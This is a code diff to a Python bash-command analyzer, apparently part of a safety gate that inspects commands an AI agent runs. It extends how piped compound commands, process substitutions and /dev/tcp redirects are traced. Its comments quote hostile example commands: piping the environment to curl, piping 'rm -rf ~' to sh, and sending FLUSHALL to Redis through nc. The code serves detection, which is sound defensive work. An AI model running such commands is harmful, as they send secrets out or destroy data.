@@ -145,6 +145,44 @@ def _brace_var(m: re.Match[str]) -> str:
     return _SIMPLE_VAR.sub(r"${\1}", text) if text.startswith('"') else text
 
 
+# Compound commands: the output of each command in them is the compound's output.
+_COMPOUNDS = frozenset(
+    {
+        "compound_statement",
+        "subshell",
+        "for_statement",
+        "c_style_for_statement",
+        "while_statement",
+        "if_statement",
+        "case_statement",
+    }
+)
+
+
+def _fd(redirect: Any) -> str:
+    """The descriptor a file redirect names (``2`` of ``2>/dev/null``; "" when none)."""
+    fd = next((c for c in redirect.named_children if c.type == "file_descriptor"), None)
+    return node_text(fd) if fd is not None else ""
+
+
+def _compound(node: Any) -> bool:
+    """A compound command, bare or with its own redirects (``{ ...; } 2>/dev/null``)."""
+    if node.type == "redirected_statement":
+        body = next((c for c in node.named_children if c.type in STATEMENTS), None)
+        return body is not None and body.type in _COMPOUNDS
+    return node.type in _COMPOUNDS
+
+
+# Commands that print nothing on stdout (a pause or a test between the lines a group prints).
+_SILENT = frozenset(
+    {
+        "sleep", "true", "false", ":", "cd", "wait", "test", "[", "shift", "usleep", "break",
+        "continue", "return", "exit", "read", "let", "unset", "umask",
+    }
+)  # fmt: skip
+_OUT_REDIRECTS = frozenset({">", ">>", ">|", "&>", "&>>"})
+
+
 class Walker(WordsMixin, RunnersMixin, FanOutMixin):
     """Walks one command string (and everything it runs) into :class:`Cmd` objects.
 
@@ -267,13 +305,57 @@ class Walker(WordsMixin, RunnersMixin, FanOutMixin):
         self, parts: list[Any], depth: int, stdin_from: Cmd | None, via: str
     ) -> Cmd | None:
         prev = stdin_from
-        for part in parts:
-            if part.type not in STATEMENTS:
-                continue
+        kept = [p for p in parts if p.type in STATEMENTS]
+        for n, part in enumerate(kept):
             if prev is not None:
                 prev.pipes_out = True
-            prev = self.stmt(part, depth, stdin_from=prev, via=via)
+            if n + 1 < len(kept) and _compound(part):
+                seen = len(self.cmds)
+                self.stmt(part, depth, stdin_from=prev, via=via)
+                prev = self._compound_output(part, self._printers(self.cmds[seen:]), via)
+            else:
+                seen = len(self.cmds)
+                prev = self.stmt(part, depth, stdin_from=prev, via=via)
+                if n + 1 < len(kept) and prev is not None and prev.name in self._bodies:
+                    # f | nc H P: what the function's body prints goes into the pipe
+                    body = [c for c in self.cmds[seen:] if c is not prev]
+                    prev = self._compound_output(part, self._printers(body), via) or prev
         return prev
+
+    def _printers(self, ran: list[Cmd]) -> list[Cmd]:
+        """The commands of a ``{ ...; }`` group, ``( ... )`` subshell, loop or ``if`` whose
+        output is the compound's own: not in a substitution, an inner pipe or a file."""
+        return [
+            c
+            for c in ran
+            if c.via != "substitution"
+            and not c.pipes_out
+            and c.name not in _SILENT
+            and not any(op in _OUT_REDIRECTS for op, _ in c.redirects)
+        ]
+
+    def _compound_output(self, node: Any, printers: list[Cmd], via: str) -> Cmd | None:
+        """What a compound command writes into a pipe, as one producer for the next
+        command: ``{ echo FLUSHALL; sleep 1; } | nc redis 6379`` types FLUSHALL to the
+        port, ``( echo 'rm -rf ~' ) | sh`` runs it, ``{ env; } | curl -d @- URL`` sends
+        the environment."""
+        for c in printers:
+            c.pipes_out = True
+        if len(printers) <= 1:
+            return printers[0] if printers else None
+        texts = [pipes.output_text(c, self.state.written) for c in printers]
+        out = Cmd(["cat"], node_text(node), self.state.cwd, via=via)
+        if all(t is not None and t != REMOTE for t in texts):
+            out.stdin_text = "\n".join(t or "" for t in texts) + "\n"
+            return out
+        from agentreflex.gate.rules.exfil import source_of  # only for a compound's unknown output
+
+        unknown = [c for c, t in zip(printers, texts, strict=True) if t is None or t == REMOTE]
+        out.stdin_from = next(
+            (c for c in unknown if source_of(c, self.where)),
+            next((c for c, t in zip(printers, texts, strict=True) if t == REMOTE), unknown[0]),
+        )
+        return out
 
     def redirected(self, node: Any, depth: int, stdin_from: Cmd | None, via: str) -> Cmd | None:
         body = None
@@ -281,6 +363,7 @@ class Walker(WordsMixin, RunnersMixin, FanOutMixin):
         stdin_text: str | None = None
         after: list[Any] = []
         loose: list[Any] = []
+        not_stdout: list[tuple[str, str]] = []  # 2>/dev/null: the redirect keeps no fd
         for child in node.named_children:
             if child.type == "heredoc_redirect":
                 stdin_text = self.heredoc(child, depth)
@@ -291,8 +374,18 @@ class Walker(WordsMixin, RunnersMixin, FanOutMixin):
             elif child.type == "herestring_redirect":
                 stdin_text = " ".join(self.words(child.named_children, depth)) + "\n"
             elif child.type == "file_redirect":
+                before = len(self.cmds)
                 redirects.append(self.redirect(child, depth))
                 loose.extend(_redirect_words(child))
+                if _fd(child) not in ("", "1"):
+                    not_stdout.append(redirects[-1])
+                if (
+                    redirects[-1][0] == "<"
+                    and _fd(child) in ("", "0")
+                    and any(k.type == "process_substitution" for k in child.named_children)
+                ):  # nc H P < <(echo FLUSHALL): what the substitution prints is the input
+                    fed = [c for c in self.cmds[before:] if not c.pipes_out]
+                    stdin_from = stdin_from or (fed[-1] if fed else None)
             elif body is None and child.type in STATEMENTS:
                 body = child
         cmd: Cmd | None = None
@@ -316,8 +409,15 @@ class Walker(WordsMixin, RunnersMixin, FanOutMixin):
                 cmd = Cmd([":"], node_text(node), self.state.cwd, redirects=redirects, via=via)
                 self.cmds.append(cmd)
         else:
+            seen = len(self.cmds)
             if body is not None:
                 self.stmt(body, depth, stdin_from, via)
+            out = [r for r in redirects if r[0] in _OUT_REDIRECTS and r not in not_stdout]
+            if out and body is not None and body.type in _COMPOUNDS:
+                for c in self._printers(
+                    self.cmds[seen:]
+                ):  # { ...; } > /dev/tcp/H/P: each writes there
+                    c.redirects.extend(out)
             cmd = Cmd([":"], node_text(node), self.state.cwd, redirects=redirects, via=via)
             self.cmds.append(cmd)
         for extra in after:
@@ -566,6 +666,10 @@ class Walker(WordsMixin, RunnersMixin, FanOutMixin):
         if base.isupper() and base.isascii() and base.replace("-", "").isalpha():
             # case-insensitive filesystems (macOS) run /bin/rm for "RM"
             name = name[: len(name) - len(base)] + base.lower()
+        elif base.endswith(".sh") and _service_script(base):
+            # a service's own distribution runs its tools as scripts (Apache Kafka's
+            # bin/kafka-topics.sh is Confluent's kafka-topics): judged as the tool
+            name = name[: len(name) - len(base)] + base[:-3]
         all_assigns = {**(assigns or {}), **peeled.assigns}
         rest = peeled.argv[1:]
         if self.state.links and cwd != UNKNOWN:
@@ -882,6 +986,13 @@ def _calls_functions(
     if wrappers != ["time"] or assigns:
         return False
     return argv[1:2] != ["--"] or bool(_TIME_DASHDASH.search(text))
+
+
+def _service_script(base: str) -> bool:
+    """``kafka-topics.sh``: a script named like a service CLI the packs judge."""
+    from agentreflex.gate import packs  # only for a command named *.sh
+
+    return base[:-3] in packs.programs()
 
 
 def _basename(name: str) -> str:
